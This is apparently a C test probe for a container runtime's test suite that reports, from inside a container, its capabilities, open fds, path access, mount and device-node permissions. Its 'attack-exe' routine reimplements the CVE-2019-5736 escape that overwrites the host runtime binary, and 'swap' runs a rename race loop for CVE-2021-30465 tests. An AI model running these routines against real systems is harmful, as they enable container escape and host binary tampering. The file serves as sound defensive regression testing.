/* probe: a static program copied into test bundles that reports, from inside the container, what an
 * attacker there could see and do. It runs a list of checks given on the command line and prints one
 * "key value" line per result, so the tests assert on facts observed inside the namespaces instead of
 * trusting what the runtime says it configured.
 *
 *   status                    caps (eff/prm/inh/bnd/amb), NoNewPrivs, Seccomp, cwd, uid, pid
 *   fds                       every open fd, its type and target ("fd N dir|reg|chr|fifo|sock TARGET")
 *   read PATH                 bytes readable from PATH, or the errno
 *   write PATH                whether PATH can be opened for writing and written
 *   create DIR                whether a new file can be created in DIR
 *   mount-proc DIR            mount a fresh procfs on DIR
 *   umount PATH               unmount PATH (to uncover a masked path)
 *   mknod-read PATH MAJ MIN   create a block device node and read from it
 *   mknod-read-char PATH MAJ MIN   the same with a character device node
 *   kill PID                  signal 0 to PID (can we reach it?)
 *   pids                      the numeric entries of /proc
 *   uname                     the uname syscall (blocked by the seccomp profile of some tests)
 *   sleep SECONDS             stay alive (so an exec can look at us)
 *   attack-exe NEEDLE         CVE-2019-5736: find a process whose /proc/PID/exe names NEEDLE, try to open
 *                             it for writing while it runs, kill it, then reopen the kept O_PATH fd for
 *                             writing and write, as the original exploit did
 *   swap A B                  (run on the host, as the racer of the CVE-2021-30465 tests) exchange A and
 *                             B with renameat2(RENAME_EXCHANGE) in a loop until SIGTERM, then print
 *                             "swap N" (N swaps done); A and B are never missing in between
 *
 * Results are errno names (ENOENT…) or "ok"; numbers are printed as they are. Build: gcc -static -O2. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/utsname.h>
#include <unistd.h>

static const char *
err_name (int e)
{
  switch (e)
    {
    case 0: return "ok";
    case EPERM: return "EPERM";
    case ENOENT: return "ENOENT";
    case ESRCH: return "ESRCH";
    case EIO: return "EIO";
    case EBADF: return "EBADF";
    case EACCES: return "EACCES";
    case EBUSY: return "EBUSY";
    case EEXIST: return "EEXIST";
    case ENOTDIR: return "ENOTDIR";
    case EISDIR: return "EISDIR";
    case EINVAL: return "EINVAL";
    case ETXTBSY: return "ETXTBSY";
    case ENOSPC: return "ENOSPC";
    case EROFS: return "EROFS";
    case ENOSYS: return "ENOSYS";
    case ENXIO: return "ENXIO";
    case ENODEV: return "ENODEV";
    case ELOOP: return "ELOOP";
    default:
      {
        static char buf[32];
        snprintf (buf, sizeof buf, "E%d", e);
        return buf;
      }
    }
}

/* Prints the lines of /proc/self/status we care about, as "status.Name value". */
static void
status (void)
{
  static const char *keys[] = { "CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb", "NoNewPrivs", "Seccomp", "Uid", "Gid" };
  char line[512], cwd[4096];
  FILE *f = fopen ("/proc/self/status", "r");
  if (f == NULL)
    {
      printf ("status %s\n", err_name (errno));
      return;
    }
  while (fgets (line, sizeof line, f))
    for (size_t i = 0; i < sizeof keys / sizeof keys[0]; i++)
      {
        size_t n = strlen (keys[i]);
        if (strncmp (line, keys[i], n) == 0 && line[n] == ':')
          {
            char *v = line + n + 1;
            v += strspn (v, " \t");
            v[strcspn (v, "\n")] = '\0';
            printf ("%s %s\n", keys[i], v);
          }
      }
  fclose (f);
  printf ("cwd %s\n", getcwd (cwd, sizeof cwd) ? cwd : err_name (errno));
  printf ("pid %d\n", getpid ());
}

static void
fds (void)
{
  DIR *d = opendir ("/proc/self/fd");
  struct dirent *e;
  if (d == NULL)
    {
      printf ("fds %s\n", err_name (errno));
      return;
    }
  int own = dirfd (d);
  while ((e = readdir (d)) != NULL)
    {
      char link[300], target[4096];
      if (e->d_name[0] == '.' || atoi (e->d_name) == own)
        continue;
      snprintf (link, sizeof link, "/proc/self/fd/%s", e->d_name);
      ssize_t n = readlink (link, target, sizeof target - 1);
      target[n < 0 ? 0 : n] = '\0';
      struct stat st;
      const char *type = "?";
      if (stat (link, &st) == 0)
        type = S_ISDIR (st.st_mode) ? "dir" : S_ISREG (st.st_mode) ? "reg" : S_ISCHR (st.st_mode) ? "chr"
             : S_ISFIFO (st.st_mode) ? "fifo" : S_ISSOCK (st.st_mode) ? "sock" : "other";
      printf ("fd %s %s %s\n", e->d_name, type, n < 0 ? err_name (errno) : target);
    }
  closedir (d);
}

static void
read_path (const char *path)
{
  char buf[4096];
  long total = 0;
  int fd = open (path, O_RDONLY | O_NONBLOCK);
  if (fd < 0)
    {
      printf ("read %s %s\n", path, err_name (errno));
      return;
    }
  for (;;)
    {
      ssize_t n = read (fd, buf, sizeof buf);
      if (n < 0)
        {
          printf ("read %s %s\n", path, err_name (errno));
          close (fd);
          return;
        }
      if (n == 0 || (total += n) > (1 << 20))
        break;
    }
  close (fd);
  printf ("read %s %ld\n", path, total);
}

static void
write_path (const char *path)
{
  int fd = open (path, O_WRONLY | O_NONBLOCK);
  if (fd < 0)
    {
      printf ("write %s %s\n", path, err_name (errno));
      return;
    }
  /* A value the kernel accepts for the /proc/sys files we poke: they are written back unchanged. */
  ssize_t n = write (fd, "", 0) < 0 ? -1 : 0;
  printf ("write %s %s\n", path, n < 0 ? err_name (errno) : "ok");
  close (fd);
}

static void
create_in (const char *dir)
{
  char path[4096];
  snprintf (path, sizeof path, "%s/.probe-%d", dir, getpid ());
  int fd = open (path, O_WRONLY | O_CREAT | O_EXCL, 0600);
  if (fd < 0)
    {
      printf ("create %s %s\n", dir, err_name (errno));
      return;
    }
  close (fd);
  unlink (path);
  printf ("create %s ok\n", dir);
}

static void
mount_proc (const char *dir)
{
  mkdir (dir, 0755);
  int r = mount ("proc", dir, "proc", 0, NULL);
  printf ("mount-proc %s %s\n", dir, err_name (r < 0 ? errno : 0));
  if (r == 0)
    umount2 (dir, MNT_DETACH);
}

static void
do_umount (const char *path)
{
  int r = umount2 (path, MNT_DETACH);
  printf ("umount %s %s\n", path, err_name (r < 0 ? errno : 0));
}

static void
mknod_read (const char *path, const char *maj, const char *min, mode_t type)
{
  int r = mknod (path, type | 0600, makedev (atoi (maj), atoi (min)));
  printf ("mknod %s %s\n", path, err_name (r < 0 ? errno : 0));
  if (r < 0)
    return;
  char buf[8192]; /* /dev/kmsg refuses reads smaller than one record */
  int fd = open (path, O_RDONLY | O_NONBLOCK);
  if (fd < 0)
    printf ("mknod-open %s %s\n", path, err_name (errno));
  else
    {
      ssize_t n = read (fd, buf, sizeof buf);
      printf ("mknod-open %s ok\nmknod-read %s %s\n", path, path, n < 0 ? err_name (errno) : "ok");
      close (fd);
    }
  unlink (path);
}

static void
pids (void)
{
  DIR *d = opendir ("/proc");
  struct dirent *e;
  printf ("pids");
  while (d && (e = readdir (d)) != NULL)
    if (e->d_name[0] >= '0' && e->d_name[0] <= '9')
      printf (" %s", e->d_name);
  printf ("\n");
  if (d)
    closedir (d);
}

static int
find_exe (const char *needle, char *target, size_t len)
{
  DIR *d = opendir ("/proc");
  struct dirent *e;
  int found = -1;
  while (d && (e = readdir (d)) != NULL)
    {
      char link[64];
      int pid = atoi (e->d_name);
      if (pid <= 0 || pid == getpid ())
        continue;
      snprintf (link, sizeof link, "/proc/%d/exe", pid);
      ssize_t n = readlink (link, target, len - 1);
      if (n < 0)
        continue;
      target[n] = '\0';
      if (strstr (target, needle))
        {
          found = pid;
          break;
        }
    }
  if (d)
    closedir (d);
  return found;
}

/* The 2019 exploit: a runtime process executes a binary the container controls whose interpreter is
 * /proc/self/exe, so the process now runs the runtime's own executable inside the container. Keep an
 * O_PATH handle on it, wait for it to exit (ETXTBSY while it runs), then reopen the handle for writing
 * through /proc/self/fd and overwrite the host binary. */
static void
attack_exe (const char *needle)
{
  char target[4096], link[64], self_fd[64];
  int pid = -1;
  for (int i = 0; i < 200 && pid < 0; i++)
    {
      pid = find_exe (needle, target, sizeof target);
      if (pid < 0)
        usleep (25000);
    }
  if (pid < 0)
    {
      printf ("attack-target none\n");
      return;
    }
  printf ("attack-target %d %s\n", pid, target);
  snprintf (link, sizeof link, "/proc/%d/exe", pid);
  int wfd = open (link, O_WRONLY);
  printf ("attack-open-running %s\n", err_name (wfd < 0 ? errno : 0));
  if (wfd >= 0)
    close (wfd);
  int pfd = open (link, O_PATH);
  printf ("attack-open-path %s\n", err_name (pfd < 0 ? errno : 0));
  if (pfd < 0)
    return;
  printf ("attack-kill %s\n", err_name (kill (pid, SIGKILL) < 0 ? errno : 0));
  char procdir[64];
  snprintf (procdir, sizeof procdir, "/proc/%d/exe", pid);
  for (int i = 0; i < 400 && access (procdir, F_OK) == 0; i++)
    usleep (10000);
  snprintf (self_fd, sizeof self_fd, "/proc/self/fd/%d", pfd);
  /* Like the exploit, retry while the binary is busy: other runtime processes may still run it. */
  for (int i = 0; i < 1000; i++)
    {
      wfd = open (self_fd, O_WRONLY);
      if (wfd >= 0 || errno != ETXTBSY)
        break;
      usleep (10000);
    }
  printf ("attack-reopen %s\n", err_name (wfd < 0 ? errno : 0));
  if (wfd >= 0)
    {
      /* A harmless marker at the end would still change the hash; the test compares before and after. */
      ssize_t n = pwrite (wfd, "PWNED", 5, 0);
      printf ("attack-write %s\n", n == 5 ? "ok" : err_name (errno));
      close (wfd);
    }
  close (pfd);
}

static volatile sig_atomic_t stop_swapping;

static void
on_term (int sig)
{
  (void) sig;
  stop_swapping = 1;
}

static void
swap_loop (const char *a, const char *b)
{
  unsigned long n = 0;
  int e = 0;
  signal (SIGTERM, on_term);
  while (!stop_swapping)
    {
      if (renameat2 (AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) < 0)
        {
          e = errno;
          break;
        }
      n++;
    }
  printf ("swap %lu %s\n", n, err_name (e));
}

int
main (int argc, char **argv)
{
  setvbuf (stdout, NULL, _IOLBF, 0);
  for (int i = 1; i < argc; i++)
    {
      const char *op = argv[i];
#define NEED(n)                                                                                             \
  if (i + (n) >= argc)                                                                                      \
    {                                                                                                       \
      fprintf (stderr, "probe: %s needs %d argument(s)\n", op, (n));                                        \
      return 2;                                                                                             \
    }
      if (strcmp (op, "status") == 0)
        status ();
      else if (strcmp (op, "fds") == 0)
        fds ();
      else if (strcmp (op, "pids") == 0)
        pids ();
      else if (strcmp (op, "uname") == 0)
        {
          struct utsname u;
          printf ("uname %s\n", err_name (uname (&u) < 0 ? errno : 0));
        }
      else if (strcmp (op, "read") == 0)
        {
          NEED (1);
          read_path (argv[++i]);
        }
      else if (strcmp (op, "write") == 0)
        {
          NEED (1);
          write_path (argv[++i]);
        }
      else if (strcmp (op, "create") == 0)
        {
          NEED (1);
          create_in (argv[++i]);
        }
      else if (strcmp (op, "mount-proc") == 0)
        {
          NEED (1);
          mount_proc (argv[++i]);
        }
      else if (strcmp (op, "umount") == 0)
        {
          NEED (1);
          do_umount (argv[++i]);
        }
      else if (strcmp (op, "kill") == 0)
        {
          NEED (1);
          const char *p = argv[++i];
          printf ("kill %s %s\n", p, err_name (kill (atoi (p), 0) < 0 ? errno : 0));
        }
      else if (strcmp (op, "mknod-read") == 0)
        {
          NEED (3);
          mknod_read (argv[i + 1], argv[i + 2], argv[i + 3], S_IFBLK);
          i += 3;
        }
      else if (strcmp (op, "mknod-read-char") == 0)
        {
          NEED (3);
          mknod_read (argv[i + 1], argv[i + 2], argv[i + 3], S_IFCHR);
          i += 3;
        }
      else if (strcmp (op, "sleep") == 0)
        {
          NEED (1);
          sleep ((unsigned) atoi (argv[++i]));
        }
      else if (strcmp (op, "swap") == 0)
        {
          NEED (2);
          swap_loop (argv[i + 1], argv[i + 2]);
          i += 2;
        }
      else if (strcmp (op, "attack-exe") == 0)
        {
          NEED (1);
          attack_exe (argv[++i]);
        }
      else
        {
          fprintf (stderr, "probe: unknown check %s\n", op);
          return 2;
        }
    }
  return 0;
}
